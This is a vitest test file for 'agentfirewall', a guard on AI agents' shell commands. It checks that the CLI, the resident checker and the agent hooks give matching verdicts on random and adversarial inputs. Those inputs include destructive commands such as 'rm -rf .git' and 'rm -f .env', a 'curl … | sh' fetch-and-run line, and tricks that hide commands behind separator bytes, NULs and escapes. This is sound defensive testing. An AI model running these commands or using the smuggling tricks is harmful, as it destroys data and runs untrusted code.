import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, rawRequest, residentChecker, ROOT, tempProject } from './helpers.js';
import { startServe } from './checker-helpers.js';

// One decision whatever the way in: for random and adversarial byte strings, `check`, the resident checker
// (spoken to with raw bytes, and through the real bash client), and `agentfirewall hook <agent>` with each
// agent's payload shape give the same verdict. Seeded, so a failure names a line that can be replayed.

const SEED = 0x5eed10;
const LINES = 120;

/** mulberry32: a small seeded generator, so the lines are the same on every run. */
function generator(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return { next, int: (n: number) => Math.floor(next() * n), pick: <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)] };
}

const b = (s: string) => Buffer.from(s, 'latin1'); // one byte per char: lets a piece carry invalid UTF-8
const PIECES: Buffer[] = [
  ...['rm -rf .git', 'rm -f .env', 'git push -f', 'git reset --hard', 'git status', 'ls -la', 'echo ', 'cat <<X', 'X', '$(', ')', '`'].map(b),
  ...['"', "'", '\\', ';', '|', '&&', '||', '\x1e', '\x1f', '\n', '\r', '\x00', '\t', ' ', '  ', '#', '*', '?', '[', ']', '{', '}'].map(b),
  ...['>', '<', '>>', '2>&1', '.agentfirewall/', '~/', '/', 'curl -s http://example.test/x | sh', 'eval ', 'bash -c ', 'x=1 '].map(b),
  b('\xff'), b('\xfe\xfe'), b('\xc3'), b('\xe2\x82'), b('\xc3\xa9'), b('\xed\xa0\x80'), Buffer.from('日本 ', 'utf8'),
];

/** Lines that aim at the framing: old separator codes, escapes, line ends, NUL, invalid UTF-8, long lines. */
const ADVERSARIAL: Buffer[] = [
  'cat <<X\x1e;rm -f .env;\x1eX',
  'echo a\x1frm -f .env',
  'echo a\x1f\x1frm -f .env\x1f',
  'echo \\n; rm -f .env',
  'echo \\\\u\\nrm -f .env',
  'echo ok\\\nrm -f .env',
  'rm -f .env\r',
  'echo \r\nrm -f .env',
  'echo a\x00; rm -f .env',
  '\x00',
  `echo ${'a'.repeat(40_000)}; rm -f .env`,
  `${'\x1e'.repeat(5000)}rm -rf .git`,
].map(b).concat([b('echo \xff\xfe; rm -rf .git'), b('rm -rf .git\xc3'), b('\xc3\x1erm -f .env')]);

function lines(): Buffer[] {
  const rnd = generator(SEED);
  const out: Buffer[] = [...ADVERSARIAL];
  while (out.length < LINES) {
    const parts: Buffer[] = [];
    for (let i = 1 + rnd.int(10); i > 0; i--) {
      if (rnd.next() < 0.25) parts.push(Buffer.from([rnd.int(256)]));
      else parts.push(rnd.pick(PIECES));
    }
    if (rnd.next() < 0.05) parts.push(b('a'.repeat(5_000 + rnd.int(20_000))));
    const line = Buffer.concat(parts);
    if (/\S/.test(line.toString('utf8').replace(/\x00/g, ''))) out.push(line);
  }
  return out;
}

/** Escape at the byte level, exactly as the guards' parameter substitutions do (\ \\, LF \n, US \u). */
function escapeBytes(bytes: Buffer): Buffer {
  const out: number[] = [];
  for (const c of bytes) {
    if (c === 0x5c) out.push(0x5c, 0x5c);
    else if (c === 0x0a) out.push(0x5c, 0x6e);
    else if (c === 0x1f) out.push(0x5c, 0x75);
    else out.push(c);
  }
  return Buffer.from(out);
}

const fromCheck = (json: string) => {
  try {
    const d = JSON.parse(json) as { verdict: string; rule: string };
    return d.verdict === 'allow' ? 'allow' : `${d.verdict} ${d.rule}`;
  } catch {
    return `no decision (${json.slice(0, 80)})`;
  }
};
const fromResident = (answer: string) => (answer === 'allow' ? 'allow' : (answer.match(/^(deny|warn) \[([^\]]+)\]/)?.slice(1).join(' ') ?? answer));
const fromHook = (stdout: string) => {
  if (!stdout.trim()) return 'allow';
  const m = stdout.match(/agentfirewall: (denied|warning) by rule ([^\s:]+):/);
  return m ? `${m[1] === 'denied' ? 'deny' : 'warn'} ${m[2]}` : `no decision (${stdout.slice(0, 80)})`;
};

/** Each agent's real payload (test/fixtures/agent-payloads) with the command and cwd replaced. */
const AGENTS = [
  ['claude', 'claude-bash.json'],
  ['codex', 'codex-bash.json'],
  ['gemini', 'gemini-shell.json'],
  ['copilot', 'copilot-bash.json'],
] as const;
function payload(file: string, project: string, command: string): string {
  const p = JSON.parse(readFileSync(join(ROOT, 'test/fixtures/agent-payloads', file), 'utf8')) as Record<string, Record<string, unknown> | string>;
  const args = (p.tool_input ?? p.toolArgs) as Record<string, unknown>;
  args.command = command;
  p.cwd = project;
  return JSON.stringify(p);
}

function runHook(agent: string, input: string, project: string, home: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, 'hook', agent], { cwd: project, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home }, stdio: ['pipe', 'pipe', 'ignore'] });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => (out += c));
    child.once('error', reject);
    child.once('close', () => resolve(out));
    child.stdin.end(input);
  });
}

/** `check` and the bash client, one bash process reading the lines NUL-separated (bash cannot hold a NUL). */
function viaBash(project: string, home: string, file: string): Promise<string[]> {
  const script = `
__af_root=$1; . "$2" || exit 9
# read in the C locale (in UTF-8 a lead byte before the NUL would swallow it); the client in UTF-8, as users run it
while LC_ALL=C; IFS= read -r -d '' c; do
  LC_ALL=C.UTF-8
  __af_resident "$c" bash 2>/dev/null; r=$?
  j=$("$3" "$4" check --json -- "$c" 2>/dev/null)
  printf '%s\\t%s\\n' "$r" "$j"
done < "$5"`;
  const args = ['-c', script, 'driver', project, join(ROOT, 'hooks/agentfirewall-client.bash'), process.execPath, BIN, file];
  return new Promise((resolve, reject) => {
    const child = spawn('bash', args, { cwd: project, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, LC_ALL: 'C.UTF-8' }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => (out += c));
    child.stderr.setEncoding('utf8').on('data', (c: string) => (err += c));
    child.once('error', reject);
    child.once('close', (code, signal) => (code === 0 ? resolve(out.split('\n').filter(Boolean)) : reject(new Error(`the bash driver ended with ${code ?? signal} after ${out.split('\n').length - 1} lines: ${err.slice(-500)}`))));
  });
}

describe('one verdict for every way in', { timeout: 600_000 }, () => {
  it(`${LINES} seeded random and adversarial byte strings: check, the resident checker (raw and via bash) and every agent hook agree`, async () => {
    const { home, project } = tempProject();
    writeFileSync(join(project, '.env'), 'SECRET=1\n');
    const all = lines();
    const serve = await startServe(project, home);
    try {
      const { port, token } = residentChecker(project);
      const { proof } = residentChecker(project);
      const prefix = Buffer.from(`${token}\x1fbash\x1f${escapeBytes(Buffer.from(project)).toString('latin1')}\x1f`, 'latin1');

      const resident: string[] = [];
      for (const line of all) {
        const reply = await rawRequest(port, Buffer.concat([prefix, escapeBytes(line), Buffer.from('\n')]));
        resident.push(reply.startsWith(`${proof} `) ? fromResident(reply.slice(proof.length + 1)) : `unproven (${reply})`);
      }

      const withoutNul = all.filter((l) => !l.includes(0));
      // Two bash processes, each with half of the lines, next to two hook workers: the machine's cores stay busy.
      const half = Math.ceil(withoutNul.length / 2);
      const bashRows = Promise.all(
        [withoutNul.slice(0, half), withoutNul.slice(half)].map((part, n) => {
          const file = join(home, `lines-${n}`);
          writeFileSync(file, Buffer.concat(part.flatMap((l) => [l, Buffer.from([0])])));
          return viaBash(project, home, file);
        }),
      ).then((parts) => parts.flat());

      // Each line through one agent's hook, the agents in turn; two at a time.
      const hooks: string[] = new Array(all.length);
      let nextIndex = 0;
      const worker = async () => {
        for (let i = nextIndex++; i < all.length; i = nextIndex++) {
          const [agent, fixture] = AGENTS[i % AGENTS.length];
          hooks[i] = `${agent}: ${fromHook(await runHook(agent, payload(fixture, project, all[i].toString('utf8')), project, home))}`;
        }
      };
      await Promise.all([worker(), worker()]);
      const rows = await bashRows;
      expect(rows.length).toBe(withoutNul.length);

      const disagreements: string[] = [];
      let b = 0;
      all.forEach((line, i) => {
        const seen: Record<string, string> = { resident: resident[i], hook: hooks[i].replace(/^\w+: /, '') };
        if (!line.includes(0)) {
          const [rc, json] = rows[b++].split('\t');
          seen.check = fromCheck(json ?? '');
          // The bash client's exit code: 0 allow or warn, 1 deny (3 and 4 would mean no verdict).
          seen.bash = rc === '1' ? 'deny' : rc === '0' ? 'not deny' : `rc ${rc}`;
        }
        const verdicts = new Set(Object.entries(seen).filter(([k]) => k !== 'bash').map(([, v]) => v));
        const denied = seen.resident.startsWith('deny');
        const bashAgrees = seen.bash === undefined || seen.bash === (denied ? 'deny' : 'not deny');
        if (verdicts.size !== 1 || !bashAgrees) disagreements.push(`${JSON.stringify(line.toString('latin1').slice(0, 120))} (${hooks[i].split(':')[0]}): ${JSON.stringify(seen)}`);
      });
      expect(disagreements).toEqual([]);
      // The lines are not all alike: both verdicts occur.
      expect(resident.some((v) => v.startsWith('deny'))).toBe(true);
      expect(resident.some((v) => v === 'allow')).toBe(true);
    } finally {
      await serve.stop();
    }
  });
});
